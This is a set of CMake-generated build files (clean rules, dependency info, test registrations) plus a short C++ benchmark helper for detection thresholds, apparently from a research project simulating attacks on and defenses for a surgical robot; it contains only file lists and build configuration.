inline DetectionThresholds standard_thresholds() {
  ThresholdStore store(threshold_cache_path());
  if (const Result<ThresholdEpoch> active = store.active(); active.ok()) {
    return active.value().thresholds;
  }
  LearnOptions options;
  options.jobs = jobs();
  const int runs = reps(600);
  const Result<DetectionThresholds> learned =
      learn_thresholds(standard_session(), runs, options);
  if (!learned.ok()) {
    std::fprintf(stderr, "bench: threshold learning failed: %s\n",
                 learned.error().to_string().c_str());
    std::abort();
  }
  ThresholdProvenance prov;
  prov.source = "bench-cache";
  prov.runs = static_cast<std::uint64_t>(runs);
  prov.percentile = options.percentile;
  prov.margin = options.margin;
  if (const Result<std::uint64_t> committed = store.commit(learned.value(), prov);
      !committed.ok()) {
    std::fprintf(stderr, "bench: threshold cache write failed (continuing): %s\n",
                 committed.error().to_string().c_str());
  }
  return learned.value();
}

inline void header(const char* title) {
  std::printf("\n================================================================\n");
  std::printf("%s\n", title);
  std::printf("================================================================\n");
}

}  // namespace rg::bench
