file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_observer.dir/bench_ablation_observer.cpp.o"
  "CMakeFiles/bench_ablation_observer.dir/bench_ablation_observer.cpp.o.d"
  "bench_ablation_observer"
  "bench_ablation_observer.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_observer.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
