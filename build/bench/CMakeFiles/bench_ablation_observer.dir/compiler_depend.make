# Empty compiler generated dependencies file for bench_ablation_observer.
# This may be replaced when dependencies are built.
