file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_reaction.dir/bench_ablation_reaction.cpp.o"
  "CMakeFiles/bench_ablation_reaction.dir/bench_ablation_reaction.cpp.o.d"
  "bench_ablation_reaction"
  "bench_ablation_reaction.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_reaction.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
