# Empty dependencies file for bench_ablation_reaction.
# This may be replaced when dependencies are built.
