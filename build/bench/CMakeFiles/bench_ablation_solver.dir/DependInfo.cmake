
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/bench_ablation_solver.cpp" "bench/CMakeFiles/bench_ablation_solver.dir/bench_ablation_solver.cpp.o" "gcc" "bench/CMakeFiles/bench_ablation_solver.dir/bench_ablation_solver.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/rg_core.dir/DependInfo.cmake"
  "/root/repo/build/src/dynamics/CMakeFiles/rg_dynamics.dir/DependInfo.cmake"
  "/root/repo/build/src/hw/CMakeFiles/rg_hw.dir/DependInfo.cmake"
  "/root/repo/build/src/kinematics/CMakeFiles/rg_kinematics.dir/DependInfo.cmake"
  "/root/repo/build/src/math/CMakeFiles/rg_math.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
