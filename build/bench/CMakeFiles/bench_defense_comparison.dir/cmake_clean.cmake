file(REMOVE_RECURSE
  "CMakeFiles/bench_defense_comparison.dir/bench_defense_comparison.cpp.o"
  "CMakeFiles/bench_defense_comparison.dir/bench_defense_comparison.cpp.o.d"
  "bench_defense_comparison"
  "bench_defense_comparison.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_defense_comparison.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
