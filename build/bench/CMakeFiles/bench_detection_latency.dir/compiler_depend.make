# Empty compiler generated dependencies file for bench_detection_latency.
# This may be replaced when dependencies are built.
