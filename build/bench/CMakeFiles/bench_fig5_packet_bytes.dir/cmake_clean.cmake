file(REMOVE_RECURSE
  "CMakeFiles/bench_fig5_packet_bytes.dir/bench_fig5_packet_bytes.cpp.o"
  "CMakeFiles/bench_fig5_packet_bytes.dir/bench_fig5_packet_bytes.cpp.o.d"
  "bench_fig5_packet_bytes"
  "bench_fig5_packet_bytes.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig5_packet_bytes.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
