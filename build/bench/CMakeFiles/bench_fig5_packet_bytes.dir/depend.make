# Empty dependencies file for bench_fig5_packet_bytes.
# This may be replaced when dependencies are built.
