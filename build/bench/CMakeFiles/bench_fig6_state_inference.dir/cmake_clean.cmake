file(REMOVE_RECURSE
  "CMakeFiles/bench_fig6_state_inference.dir/bench_fig6_state_inference.cpp.o"
  "CMakeFiles/bench_fig6_state_inference.dir/bench_fig6_state_inference.cpp.o.d"
  "bench_fig6_state_inference"
  "bench_fig6_state_inference.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig6_state_inference.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
