# Empty compiler generated dependencies file for bench_fig6_state_inference.
# This may be replaced when dependencies are built.
