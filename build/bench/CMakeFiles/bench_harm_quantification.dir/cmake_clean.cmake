file(REMOVE_RECURSE
  "CMakeFiles/bench_harm_quantification.dir/bench_harm_quantification.cpp.o"
  "CMakeFiles/bench_harm_quantification.dir/bench_harm_quantification.cpp.o.d"
  "bench_harm_quantification"
  "bench_harm_quantification.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_harm_quantification.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
