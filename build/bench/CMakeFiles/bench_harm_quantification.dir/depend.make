# Empty dependencies file for bench_harm_quantification.
# This may be replaced when dependencies are built.
