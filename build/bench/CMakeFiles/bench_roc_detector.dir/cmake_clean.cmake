file(REMOVE_RECURSE
  "CMakeFiles/bench_roc_detector.dir/bench_roc_detector.cpp.o"
  "CMakeFiles/bench_roc_detector.dir/bench_roc_detector.cpp.o.d"
  "bench_roc_detector"
  "bench_roc_detector.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_roc_detector.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
