# Empty compiler generated dependencies file for bench_roc_detector.
# This may be replaced when dependencies are built.
