file(REMOVE_RECURSE
  "CMakeFiles/bench_table1_attack_variants.dir/bench_table1_attack_variants.cpp.o"
  "CMakeFiles/bench_table1_attack_variants.dir/bench_table1_attack_variants.cpp.o.d"
  "bench_table1_attack_variants"
  "bench_table1_attack_variants.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table1_attack_variants.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
