# Empty compiler generated dependencies file for bench_table1_attack_variants.
# This may be replaced when dependencies are built.
