# Empty dependencies file for bench_table4_detection.
# This may be replaced when dependencies are built.
