file(REMOVE_RECURSE
  "CMakeFiles/network_threats.dir/network_threats.cpp.o"
  "CMakeFiles/network_threats.dir/network_threats.cpp.o.d"
  "network_threats"
  "network_threats.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/network_threats.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
