# Empty compiler generated dependencies file for network_threats.
# This may be replaced when dependencies are built.
