file(REMOVE_RECURSE
  "CMakeFiles/suture_session.dir/suture_session.cpp.o"
  "CMakeFiles/suture_session.dir/suture_session.cpp.o.d"
  "suture_session"
  "suture_session.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/suture_session.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
