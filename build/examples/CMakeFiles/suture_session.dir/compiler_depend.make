# Empty compiler generated dependencies file for suture_session.
# This may be replaced when dependencies are built.
