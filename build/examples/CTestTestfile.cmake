# CMake generated Testfile for 
# Source directory: /root/repo/examples
# Build directory: /root/repo/build/examples
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
add_test(example_quickstart "/root/repo/build/examples/quickstart")
set_tests_properties(example_quickstart PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;13;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_attack_demo "/root/repo/build/examples/attack_demo")
set_tests_properties(example_attack_demo PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;14;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_detection_demo "/root/repo/build/examples/detection_demo")
set_tests_properties(example_detection_demo PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;15;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_suture_session "/root/repo/build/examples/suture_session" "suture_trace_test.csv")
set_tests_properties(example_suture_session PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;16;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_network_threats "/root/repo/build/examples/network_threats")
set_tests_properties(example_network_threats PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;17;add_test;/root/repo/examples/CMakeLists.txt;0;")
