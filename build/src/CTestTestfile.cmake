# CMake generated Testfile for 
# Source directory: /root/repo/src
# Build directory: /root/repo/build/src
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
subdirs("common")
subdirs("math")
subdirs("ode")
subdirs("kinematics")
subdirs("dynamics")
subdirs("plant")
subdirs("hw")
subdirs("net")
subdirs("trajectory")
subdirs("control")
subdirs("attack")
subdirs("defense")
subdirs("core")
subdirs("sim")
subdirs("viz")
