
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/attack/attack_engine.cpp" "src/attack/CMakeFiles/rg_attack.dir/attack_engine.cpp.o" "gcc" "src/attack/CMakeFiles/rg_attack.dir/attack_engine.cpp.o.d"
  "/root/repo/src/attack/feedback_attack.cpp" "src/attack/CMakeFiles/rg_attack.dir/feedback_attack.cpp.o" "gcc" "src/attack/CMakeFiles/rg_attack.dir/feedback_attack.cpp.o.d"
  "/root/repo/src/attack/injection_wrapper.cpp" "src/attack/CMakeFiles/rg_attack.dir/injection_wrapper.cpp.o" "gcc" "src/attack/CMakeFiles/rg_attack.dir/injection_wrapper.cpp.o.d"
  "/root/repo/src/attack/itp_injection.cpp" "src/attack/CMakeFiles/rg_attack.dir/itp_injection.cpp.o" "gcc" "src/attack/CMakeFiles/rg_attack.dir/itp_injection.cpp.o.d"
  "/root/repo/src/attack/logging_wrapper.cpp" "src/attack/CMakeFiles/rg_attack.dir/logging_wrapper.cpp.o" "gcc" "src/attack/CMakeFiles/rg_attack.dir/logging_wrapper.cpp.o.d"
  "/root/repo/src/attack/math_attack.cpp" "src/attack/CMakeFiles/rg_attack.dir/math_attack.cpp.o" "gcc" "src/attack/CMakeFiles/rg_attack.dir/math_attack.cpp.o.d"
  "/root/repo/src/attack/packet_analyzer.cpp" "src/attack/CMakeFiles/rg_attack.dir/packet_analyzer.cpp.o" "gcc" "src/attack/CMakeFiles/rg_attack.dir/packet_analyzer.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  "/root/repo/build/src/math/CMakeFiles/rg_math.dir/DependInfo.cmake"
  "/root/repo/build/src/hw/CMakeFiles/rg_hw.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/rg_net.dir/DependInfo.cmake"
  "/root/repo/build/src/kinematics/CMakeFiles/rg_kinematics.dir/DependInfo.cmake"
  "/root/repo/build/src/dynamics/CMakeFiles/rg_dynamics.dir/DependInfo.cmake"
  "/root/repo/build/src/trajectory/CMakeFiles/rg_trajectory.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
