file(REMOVE_RECURSE
  "CMakeFiles/rg_attack.dir/attack_engine.cpp.o"
  "CMakeFiles/rg_attack.dir/attack_engine.cpp.o.d"
  "CMakeFiles/rg_attack.dir/feedback_attack.cpp.o"
  "CMakeFiles/rg_attack.dir/feedback_attack.cpp.o.d"
  "CMakeFiles/rg_attack.dir/injection_wrapper.cpp.o"
  "CMakeFiles/rg_attack.dir/injection_wrapper.cpp.o.d"
  "CMakeFiles/rg_attack.dir/itp_injection.cpp.o"
  "CMakeFiles/rg_attack.dir/itp_injection.cpp.o.d"
  "CMakeFiles/rg_attack.dir/logging_wrapper.cpp.o"
  "CMakeFiles/rg_attack.dir/logging_wrapper.cpp.o.d"
  "CMakeFiles/rg_attack.dir/math_attack.cpp.o"
  "CMakeFiles/rg_attack.dir/math_attack.cpp.o.d"
  "CMakeFiles/rg_attack.dir/packet_analyzer.cpp.o"
  "CMakeFiles/rg_attack.dir/packet_analyzer.cpp.o.d"
  "librg_attack.a"
  "librg_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
