file(REMOVE_RECURSE
  "librg_attack.a"
)
