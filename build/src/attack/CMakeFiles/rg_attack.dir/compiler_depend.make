# Empty compiler generated dependencies file for rg_attack.
# This may be replaced when dependencies are built.
