file(REMOVE_RECURSE
  "CMakeFiles/rg_common.dir/log.cpp.o"
  "CMakeFiles/rg_common.dir/log.cpp.o.d"
  "CMakeFiles/rg_common.dir/rng.cpp.o"
  "CMakeFiles/rg_common.dir/rng.cpp.o.d"
  "librg_common.a"
  "librg_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
