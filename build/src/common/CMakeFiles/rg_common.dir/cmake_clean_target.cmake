file(REMOVE_RECURSE
  "librg_common.a"
)
