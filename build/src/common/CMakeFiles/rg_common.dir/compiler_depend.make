# Empty compiler generated dependencies file for rg_common.
# This may be replaced when dependencies are built.
