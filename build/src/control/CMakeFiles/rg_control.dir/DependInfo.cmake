
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/control/control_software.cpp" "src/control/CMakeFiles/rg_control.dir/control_software.cpp.o" "gcc" "src/control/CMakeFiles/rg_control.dir/control_software.cpp.o.d"
  "/root/repo/src/control/pid.cpp" "src/control/CMakeFiles/rg_control.dir/pid.cpp.o" "gcc" "src/control/CMakeFiles/rg_control.dir/pid.cpp.o.d"
  "/root/repo/src/control/safety.cpp" "src/control/CMakeFiles/rg_control.dir/safety.cpp.o" "gcc" "src/control/CMakeFiles/rg_control.dir/safety.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  "/root/repo/build/src/math/CMakeFiles/rg_math.dir/DependInfo.cmake"
  "/root/repo/build/src/kinematics/CMakeFiles/rg_kinematics.dir/DependInfo.cmake"
  "/root/repo/build/src/dynamics/CMakeFiles/rg_dynamics.dir/DependInfo.cmake"
  "/root/repo/build/src/hw/CMakeFiles/rg_hw.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/rg_net.dir/DependInfo.cmake"
  "/root/repo/build/src/trajectory/CMakeFiles/rg_trajectory.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
