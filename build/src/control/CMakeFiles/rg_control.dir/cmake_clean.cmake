file(REMOVE_RECURSE
  "CMakeFiles/rg_control.dir/control_software.cpp.o"
  "CMakeFiles/rg_control.dir/control_software.cpp.o.d"
  "CMakeFiles/rg_control.dir/pid.cpp.o"
  "CMakeFiles/rg_control.dir/pid.cpp.o.d"
  "CMakeFiles/rg_control.dir/safety.cpp.o"
  "CMakeFiles/rg_control.dir/safety.cpp.o.d"
  "librg_control.a"
  "librg_control.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_control.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
