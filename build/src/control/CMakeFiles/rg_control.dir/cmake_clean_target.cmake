file(REMOVE_RECURSE
  "librg_control.a"
)
