# Empty compiler generated dependencies file for rg_control.
# This may be replaced when dependencies are built.
