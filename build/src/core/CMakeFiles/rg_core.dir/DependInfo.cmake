
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/core/detector.cpp" "src/core/CMakeFiles/rg_core.dir/detector.cpp.o" "gcc" "src/core/CMakeFiles/rg_core.dir/detector.cpp.o.d"
  "/root/repo/src/core/estimator.cpp" "src/core/CMakeFiles/rg_core.dir/estimator.cpp.o" "gcc" "src/core/CMakeFiles/rg_core.dir/estimator.cpp.o.d"
  "/root/repo/src/core/fixed_point.cpp" "src/core/CMakeFiles/rg_core.dir/fixed_point.cpp.o" "gcc" "src/core/CMakeFiles/rg_core.dir/fixed_point.cpp.o.d"
  "/root/repo/src/core/fixed_point_model.cpp" "src/core/CMakeFiles/rg_core.dir/fixed_point_model.cpp.o" "gcc" "src/core/CMakeFiles/rg_core.dir/fixed_point_model.cpp.o.d"
  "/root/repo/src/core/pipeline.cpp" "src/core/CMakeFiles/rg_core.dir/pipeline.cpp.o" "gcc" "src/core/CMakeFiles/rg_core.dir/pipeline.cpp.o.d"
  "/root/repo/src/core/thresholds.cpp" "src/core/CMakeFiles/rg_core.dir/thresholds.cpp.o" "gcc" "src/core/CMakeFiles/rg_core.dir/thresholds.cpp.o.d"
  "/root/repo/src/core/ukf_estimator.cpp" "src/core/CMakeFiles/rg_core.dir/ukf_estimator.cpp.o" "gcc" "src/core/CMakeFiles/rg_core.dir/ukf_estimator.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  "/root/repo/build/src/math/CMakeFiles/rg_math.dir/DependInfo.cmake"
  "/root/repo/build/src/dynamics/CMakeFiles/rg_dynamics.dir/DependInfo.cmake"
  "/root/repo/build/src/kinematics/CMakeFiles/rg_kinematics.dir/DependInfo.cmake"
  "/root/repo/build/src/hw/CMakeFiles/rg_hw.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
