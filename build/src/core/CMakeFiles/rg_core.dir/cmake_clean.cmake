file(REMOVE_RECURSE
  "CMakeFiles/rg_core.dir/detector.cpp.o"
  "CMakeFiles/rg_core.dir/detector.cpp.o.d"
  "CMakeFiles/rg_core.dir/estimator.cpp.o"
  "CMakeFiles/rg_core.dir/estimator.cpp.o.d"
  "CMakeFiles/rg_core.dir/fixed_point.cpp.o"
  "CMakeFiles/rg_core.dir/fixed_point.cpp.o.d"
  "CMakeFiles/rg_core.dir/fixed_point_model.cpp.o"
  "CMakeFiles/rg_core.dir/fixed_point_model.cpp.o.d"
  "CMakeFiles/rg_core.dir/pipeline.cpp.o"
  "CMakeFiles/rg_core.dir/pipeline.cpp.o.d"
  "CMakeFiles/rg_core.dir/thresholds.cpp.o"
  "CMakeFiles/rg_core.dir/thresholds.cpp.o.d"
  "CMakeFiles/rg_core.dir/ukf_estimator.cpp.o"
  "CMakeFiles/rg_core.dir/ukf_estimator.cpp.o.d"
  "librg_core.a"
  "librg_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
