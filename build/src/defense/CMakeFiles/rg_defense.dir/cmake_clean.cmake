file(REMOVE_RECURSE
  "CMakeFiles/rg_defense.dir/bitw.cpp.o"
  "CMakeFiles/rg_defense.dir/bitw.cpp.o.d"
  "CMakeFiles/rg_defense.dir/mac.cpp.o"
  "CMakeFiles/rg_defense.dir/mac.cpp.o.d"
  "librg_defense.a"
  "librg_defense.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_defense.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
