file(REMOVE_RECURSE
  "librg_defense.a"
)
