# Empty compiler generated dependencies file for rg_defense.
# This may be replaced when dependencies are built.
