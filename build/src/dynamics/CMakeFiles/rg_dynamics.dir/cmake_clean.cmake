file(REMOVE_RECURSE
  "CMakeFiles/rg_dynamics.dir/link_dynamics.cpp.o"
  "CMakeFiles/rg_dynamics.dir/link_dynamics.cpp.o.d"
  "CMakeFiles/rg_dynamics.dir/raven_model.cpp.o"
  "CMakeFiles/rg_dynamics.dir/raven_model.cpp.o.d"
  "librg_dynamics.a"
  "librg_dynamics.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_dynamics.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
