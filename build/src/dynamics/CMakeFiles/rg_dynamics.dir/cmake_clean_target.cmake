file(REMOVE_RECURSE
  "librg_dynamics.a"
)
