# Empty compiler generated dependencies file for rg_dynamics.
# This may be replaced when dependencies are built.
