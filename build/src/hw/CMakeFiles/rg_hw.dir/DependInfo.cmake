
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/hw/plc.cpp" "src/hw/CMakeFiles/rg_hw.dir/plc.cpp.o" "gcc" "src/hw/CMakeFiles/rg_hw.dir/plc.cpp.o.d"
  "/root/repo/src/hw/usb_board.cpp" "src/hw/CMakeFiles/rg_hw.dir/usb_board.cpp.o" "gcc" "src/hw/CMakeFiles/rg_hw.dir/usb_board.cpp.o.d"
  "/root/repo/src/hw/usb_packet.cpp" "src/hw/CMakeFiles/rg_hw.dir/usb_packet.cpp.o" "gcc" "src/hw/CMakeFiles/rg_hw.dir/usb_packet.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  "/root/repo/build/src/math/CMakeFiles/rg_math.dir/DependInfo.cmake"
  "/root/repo/build/src/dynamics/CMakeFiles/rg_dynamics.dir/DependInfo.cmake"
  "/root/repo/build/src/kinematics/CMakeFiles/rg_kinematics.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
