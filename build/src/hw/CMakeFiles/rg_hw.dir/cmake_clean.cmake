file(REMOVE_RECURSE
  "CMakeFiles/rg_hw.dir/plc.cpp.o"
  "CMakeFiles/rg_hw.dir/plc.cpp.o.d"
  "CMakeFiles/rg_hw.dir/usb_board.cpp.o"
  "CMakeFiles/rg_hw.dir/usb_board.cpp.o.d"
  "CMakeFiles/rg_hw.dir/usb_packet.cpp.o"
  "CMakeFiles/rg_hw.dir/usb_packet.cpp.o.d"
  "librg_hw.a"
  "librg_hw.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_hw.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
