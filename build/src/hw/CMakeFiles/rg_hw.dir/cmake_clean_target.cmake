file(REMOVE_RECURSE
  "librg_hw.a"
)
