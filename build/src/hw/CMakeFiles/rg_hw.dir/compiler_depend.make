# Empty compiler generated dependencies file for rg_hw.
# This may be replaced when dependencies are built.
