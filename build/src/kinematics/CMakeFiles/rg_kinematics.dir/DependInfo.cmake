
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/kinematics/coupling.cpp" "src/kinematics/CMakeFiles/rg_kinematics.dir/coupling.cpp.o" "gcc" "src/kinematics/CMakeFiles/rg_kinematics.dir/coupling.cpp.o.d"
  "/root/repo/src/kinematics/raven_kinematics.cpp" "src/kinematics/CMakeFiles/rg_kinematics.dir/raven_kinematics.cpp.o" "gcc" "src/kinematics/CMakeFiles/rg_kinematics.dir/raven_kinematics.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  "/root/repo/build/src/math/CMakeFiles/rg_math.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
