file(REMOVE_RECURSE
  "CMakeFiles/rg_kinematics.dir/coupling.cpp.o"
  "CMakeFiles/rg_kinematics.dir/coupling.cpp.o.d"
  "CMakeFiles/rg_kinematics.dir/raven_kinematics.cpp.o"
  "CMakeFiles/rg_kinematics.dir/raven_kinematics.cpp.o.d"
  "librg_kinematics.a"
  "librg_kinematics.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_kinematics.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
