file(REMOVE_RECURSE
  "librg_kinematics.a"
)
