# Empty dependencies file for rg_kinematics.
# This may be replaced when dependencies are built.
