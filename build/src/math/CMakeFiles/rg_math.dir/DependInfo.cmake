
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/math/filters.cpp" "src/math/CMakeFiles/rg_math.dir/filters.cpp.o" "gcc" "src/math/CMakeFiles/rg_math.dir/filters.cpp.o.d"
  "/root/repo/src/math/stats.cpp" "src/math/CMakeFiles/rg_math.dir/stats.cpp.o" "gcc" "src/math/CMakeFiles/rg_math.dir/stats.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
