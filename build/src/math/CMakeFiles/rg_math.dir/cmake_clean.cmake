file(REMOVE_RECURSE
  "CMakeFiles/rg_math.dir/filters.cpp.o"
  "CMakeFiles/rg_math.dir/filters.cpp.o.d"
  "CMakeFiles/rg_math.dir/stats.cpp.o"
  "CMakeFiles/rg_math.dir/stats.cpp.o.d"
  "librg_math.a"
  "librg_math.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_math.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
