file(REMOVE_RECURSE
  "librg_math.a"
)
