# Empty dependencies file for rg_math.
# This may be replaced when dependencies are built.
