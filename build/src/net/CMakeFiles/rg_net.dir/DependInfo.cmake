
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/net/itp_packet.cpp" "src/net/CMakeFiles/rg_net.dir/itp_packet.cpp.o" "gcc" "src/net/CMakeFiles/rg_net.dir/itp_packet.cpp.o.d"
  "/root/repo/src/net/master_console.cpp" "src/net/CMakeFiles/rg_net.dir/master_console.cpp.o" "gcc" "src/net/CMakeFiles/rg_net.dir/master_console.cpp.o.d"
  "/root/repo/src/net/udp_channel.cpp" "src/net/CMakeFiles/rg_net.dir/udp_channel.cpp.o" "gcc" "src/net/CMakeFiles/rg_net.dir/udp_channel.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  "/root/repo/build/src/math/CMakeFiles/rg_math.dir/DependInfo.cmake"
  "/root/repo/build/src/hw/CMakeFiles/rg_hw.dir/DependInfo.cmake"
  "/root/repo/build/src/trajectory/CMakeFiles/rg_trajectory.dir/DependInfo.cmake"
  "/root/repo/build/src/dynamics/CMakeFiles/rg_dynamics.dir/DependInfo.cmake"
  "/root/repo/build/src/kinematics/CMakeFiles/rg_kinematics.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
