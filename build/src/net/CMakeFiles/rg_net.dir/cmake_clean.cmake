file(REMOVE_RECURSE
  "CMakeFiles/rg_net.dir/itp_packet.cpp.o"
  "CMakeFiles/rg_net.dir/itp_packet.cpp.o.d"
  "CMakeFiles/rg_net.dir/master_console.cpp.o"
  "CMakeFiles/rg_net.dir/master_console.cpp.o.d"
  "CMakeFiles/rg_net.dir/udp_channel.cpp.o"
